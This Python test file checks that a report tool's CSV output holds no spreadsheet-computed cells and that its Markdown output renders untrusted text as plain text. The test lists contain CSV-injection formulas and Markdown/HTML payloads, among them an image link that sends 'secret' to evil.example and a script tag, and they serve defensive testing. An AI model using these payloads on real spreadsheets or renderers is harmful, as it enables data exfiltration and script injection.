"""CSV that no spreadsheet computes, and Markdown in which foreign text is only text."""

import csv
import io
from dataclasses import fields, replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sample_run import Words, sample_run

from ralph_cli.reports import csv as as_csv
from ralph_cli.reports import markdown
from ralph_cli.runs.report import RunDocument, build_report

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rows(words: Words | None = None, *, absent: bool = False) -> list[dict[str, str]]:
    run, document = sample_run(words, absent=absent)
    text = as_csv.csv_report(build_report(run, RunDocument(document)))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_there_is_a_row_for_each_claim_and_quote() -> None:
    found = rows()
    assert [(row["claim"], row["quote"]) for row in found] == [
        ("1", "1"),
        ("1", "2"),
        ("1", "3"),
        ("2", "2"),
        ("3", ""),
    ]
    first = found[0]
    assert (first["match"], first["page"], first["printed"]) == ("re-cut", "2", "ii")
    assert [row["verdict"] for row in found] == ["supported, qualified by [3]"] * 3 + [
        "partly",
        "contradicted, 39 % unconfirmed",
    ]
    assert {row["pages_read"] for row in found} == {"pages 2, 4"} and {row["searched"] for row in found} == {""}
    assert first["quote_text"] == "The annual rent is $48,000,\npayable monthly." and first["occurrences"] == "3"
    assert first["document"] == "lease.txt" and first["stop"] == "max_iterations" and first["judge"] == "openai:gpt-5"
    assert [row["bearing"] for row in found] == ["supports", "unrelated", "qualifies", "", ""]
    assert first["calculations"] == "4,000 * 12 = 48,000" and found[1]["bearing_reason"] == "rent is $49,000"
    assert found[4]["claim_text"] == "It is new." and found[4]["quote_text"] == found[4]["start"] == ""


def test_an_absence_has_a_row_for_each_search_and_each_passage_that_is_near() -> None:
    found = rows(absent=True)
    assert {row["verdict"] for row in found} == {"not in the document"} and {row["stop"] for row in found} == {"absent"}
    assert {row["pages_read"] for row in found} == {"pages 2, 4"} and found[0]["reason"] == "only a hall"
    assert [(row["searched"], row["places"]) for row in found] == [
        ("parking", "0"),
        ("garage, in its code", "4"),
        ("rent is $49,000 (as a pattern), in its code", "the passage says so"),
        ("", ""),
    ]
    last = found[-1]
    assert (last["bearing"], last["bearing_reason"]) == ("nearest", "parking, rent")
    assert (last["page"], last["printed"]) == ("2", "ii") and int(last["start"]) < int(last["end"])
    assert last["quote_text"] == "The annual rent is $48,000,\npayable monthly."
    run, document = sample_run(absent=True)
    bare = replace(run, view=replace(run.view, searches=(), nearest=()))
    text = as_csv.csv_report(build_report(bare, RunDocument(document)))
    assert [row["verdict"] for row in csv.DictReader(io.StringIO(text[1:]))] == ["not in the document"]


def test_a_quote_of_no_claim_has_a_row_too() -> None:
    run, document = sample_run()
    run = replace(run, view=replace(run.view, claims=(), found_passages=()))
    text = as_csv.csv_report(build_report(run, RunDocument(document)))
    assert [(row["claim"], row["quote"]) for row in csv.DictReader(io.StringIO(text[1:]))] == [("", "1"), ("", "2")]


FORMULAS = ["=1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '=HYPERLINK("http://evil.example")', "＝1", "-2+3"]


def is_computed(cell: str) -> bool:
    """Whether a spreadsheet computes the cell: OWASP, "CSV Injection"; a number with a sign is none."""
    begins = cell.lstrip(" ")
    return begins.startswith(tuple("=+-@\t\n\r＝＋－＠")) and not set(begins[1:]) <= set("0123456789,.eE- %$€£¥")


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_is_a_formula(payload: str) -> None:
    words = Words(**{item.name: payload for item in fields(Words)})
    for row in (*rows(words), *rows(words, absent=True)):
        for name, cell in row.items():
            assert not is_computed(cell), name
            assert "\r" not in cell


@given(st.text())
def test_every_cell_comes_back_as_one_cell(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([as_csv.cell(text), "next"])
    ((cell, after),) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert after == "next" and not is_computed(cell)


def test_harmless_cells_are_left_alone() -> None:
    assert as_csv.cell("(1,577)") == "(1,577)" and as_csv.cell(12) == "12" and as_csv.cell("a=b - c") == "a=b - c"
    numbers = "-5", "+3.1 %", "-$1,234.50", "-1e-3", "+1", "- 4"
    assert [as_csv.cell(number) for number in numbers] == list(numbers)
    assert as_csv.cell("-2+3") == "'-2+3" and as_csv.cell("+1-555-0100") == "'+1-555-0100"


HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "[click][ref]\n\n[ref]: http://evil.example",
    "<http://evil.example> <img src=x> <script>alert(1)</script>",
    "http://evil.example www.evil.example a@evil.example",
    "# heading\n\n---\n\n> quote\n\n1. one\n- two\n+ three\n* four",
    "    code\n```\nfence\n```\n~~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _em_ `code` ~~gone~~ &amp; \\* $x$ [^1]",
    "text\n===\n\ntext\n---",
    "<!-- hidden",
    "a\u2028b\u202ec\x00",
]


def kinds(text: str) -> list[str]:
    """The kinds of the Markdown's parts, in order; runs of plain text count as one."""
    found: list[str] = []
    for token in PARSER.parse(text):
        for part in [token, *(token.children or [])]:
            if part.type in ("text", "softbreak", "inline", "html_inline") and found and found[-1] == "text":
                continue
            found.append("text" if part.type in ("text", "html_inline") else part.type)
    return found


@pytest.mark.parametrize("payload", HOSTILE)
def test_no_foreign_word_is_a_link_an_image_html_or_a_mark(payload: str) -> None:
    for absent in (False, True):
        calm = Words(**{item.name: "calm" for item in fields(Words)})
        wild = Words(**{item.name: f"calm {' '.join(payload.split())}" for item in fields(Words)})
        texts = [
            markdown.markdown_report(build_report(run, RunDocument(document)))
            for run, document in (sample_run(calm, absent=absent), sample_run(wild, absent=absent))
        ]
        assert kinds(texts[1]) == kinds(texts[0])
        tokens = [part for token in PARSER.parse(texts[1]) for part in [token, *(token.children or [])]]
        assert not {"link_open", "image", "html_block"} & {token.type for token in tokens}
        assert {token.content for token in tokens if token.type == "html_inline"} <= {"<!-- -->"}
        assert "://" not in texts[1].replace("\\:", "") and "\u2028" not in texts[1]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_lines_of_a_quote_and_an_output_stay_what_they_are(payload: str) -> None:
    run, document = sample_run(Words(quote=payload))
    tokens = PARSER.parse(markdown.markdown_report(build_report(run, RunDocument(document))))
    headings = [tokens[at + 1].content for at, token in enumerate(tokens) if token.type == "heading_open"]
    assert headings[0] == "Is the rent due monthly?" and "heading" not in headings and "text" not in headings
    assert not any(token.type in ("table_open", "fence", "code_block", "hr", "ordered_list_open") for token in tokens)
    task = replace(run, view=replace(run.view, mode="task", output=payload))
    fences = [
        t
        for t in PARSER.parse(markdown.markdown_report(build_report(task, RunDocument(document))))
        if t.type == "fence"
    ]
    assert len(fences) == 1 and fences[0].content.split("\n")[0] == payload.split("\n")[0].replace(
        "\u2028", "\\u{2028}"
    ).replace("\u202e", "\\u{202e}").replace("\x00", "\\u{0}")


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_an_escaped_line_reads_as_it_was(text: str) -> None:
    from ralph_cli.reports.safe_text import one_line

    shown = "".join(
        part.content
        for token in PARSER.parseInline(markdown.escape_markdown(text))
        for part in token.children or ()
        if part.type == "text"
    )
    assert shown == one_line(text)


def test_only_what_would_be_more_than_text_is_escaped() -> None:
    for plain in (
        "The U.S. rate of 3.5% (p. 9): $1.2 million & more!",
        "C# = fine, 1 -> 2",
        "report.pdf",
        "a.m. at 9:30",
    ):
        assert markdown.escape_markdown(plain) == plain
    assert markdown.escape_markdown("see memo.md, $x$, &amp; # 1") == "see memo\\.md, \\$x\\$, \\&amp; \\# 1"


def test_each_statement_of_a_task_has_the_numbers_of_its_quotes() -> None:
    run, document = sample_run()
    output = "# Rent\n\nThe rent is $48,000 a year, due monthly.\nIt is “payable monthly” only.\nNobody knows more."
    view = replace(run.view, mode="task", output=output, format="md")
    text = markdown.markdown_report(build_report(replace(run, view=view), RunDocument(document)))
    assert "due monthly. [1] [2]\nIt is “payable monthly” only. [1]\nNobody knows more.\n```" in text
    assert "**The rent is $48,000 a year, due monthly.** \\[1\\] \\[2\\]\n" in text
    plain = markdown.markdown_report(
        build_report(replace(run, view=replace(view, format="json")), RunDocument(document))
    )
    assert output in plain  # what a program reads is not touched


def test_the_report_tells_claims_verdicts_places_and_what_was_refused() -> None:
    run, document = sample_run()
    text = markdown.markdown_report(build_report(run, RunDocument(document)))
    assert (
        "### Claim 1: supported, qualified by \\[3\\]\n" in text
        and "- \\[3\\] Found by the judge, qualifies it: the passage says so" in text
    )
    assert "- The judges do not agree: openai:gpt-5: only partly supported" in text
    assert "p. 2 (printed ii), the same letters and digits, other signs and spaces, found in 3 places" in text
    assert "> The annual rent is $48,000,\\\n> payable monthly." in text
    assert "- this quote is not in the document: rent is $49,000" in text
    assert text.count("> Page 3 begins.") == 1  # a quote of two claims


def test_the_report_of_an_absence_tells_searches_pages_read_and_what_is_near() -> None:
    run, document = sample_run(absent=True)
    text = markdown.markdown_report(build_report(run, RunDocument(document)))
    assert "- garage, in its code: 4\n" in text
    assert "- rent is $49,000 (as a pattern), in its code: the passage says so\n" in text
    assert "Pages read, at least in part: 2, 4 (" in text
    assert "The passages that hold most of the question's words (nothing says that they answer it):" in text
    assert "- p. 2 (printed ii): “The annual rent is $48,000, payable monthly.” (parking, rent)" in text


def test_the_report_shows_what_was_read() -> None:
    run, document = sample_run()
    text = markdown.markdown_report(build_report(run, RunDocument(document)))
    assert "## What was read\n\n- Pages shown to a model (1 of 12): 2" in text
    assert "- Pages never read (5 of 12): 8-12" in text and "- Pages shown to a model (1 of 12): 2" in text
    without = markdown.markdown_report(build_report(run, RunDocument(missing="it is gone")))
    assert "- Pages shown to a model (1 of 12): 2" in without and "- Pages never read (5 of 12): 8-12" in without
    bare, document = sample_run(covered=False)
    assert "## What was read\n" in markdown.markdown_report(build_report(bare, RunDocument(document)))
